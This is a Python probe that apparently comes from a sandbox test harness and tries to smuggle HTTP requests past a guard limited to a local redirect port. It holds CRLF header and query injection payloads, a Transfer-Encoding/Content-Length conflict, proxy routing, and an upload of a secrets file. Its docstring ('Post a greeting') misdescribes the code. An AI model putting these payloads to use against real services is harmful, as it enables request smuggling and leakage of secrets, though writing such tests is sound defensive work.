# range: {"allow": "http:127.0.0.1:{redirect_port}", "timeout": 15, "unguarded": false}
"""Smuggles a second request or another host by headers, methods, paths, proxies and adapters."""

import requests


async def header_smuggling(targets: dict) -> dict:
    """Post a greeting."""
    host, port = targets["tcp"]
    print("PRIMITIVE", requests.post)
    said = []
    attempts = (
        {"headers": {"Host": f"{host}:{port}"}},
        {"headers": {"X": "a\r\nHost: b\r\n\r\nGET / HTTP/1.1"}},
        {"headers": {"Transfer-Encoding": "chunked", "Content-Length": "5"}},
        {"proxies": {"http": f"http://{host}:{port}"}},
        {"params": {"a": "b HTTP/1.1\r\nHost: c\r\n\r\n"}},
        {"verify": False, "cert": targets["secrets"]["tmp"]},
        {"files": {"f": targets["secrets"]["tmp"]}},
        {"auth": ("a", "b"), "stream": True, "hooks": {"response": print}},
    )
    for extra in attempts:
        for verb in ("get", "post", "request"):
            try:
                call = getattr(requests, verb)
                first = ("CONNECT", targets["redirect"]) if verb == "request" else (targets["redirect"],)
                said.append(call(*first, timeout=2, **extra).text[:100])
            except Exception as error:
                said.append(repr(error)[:100])
    return {"said": said}
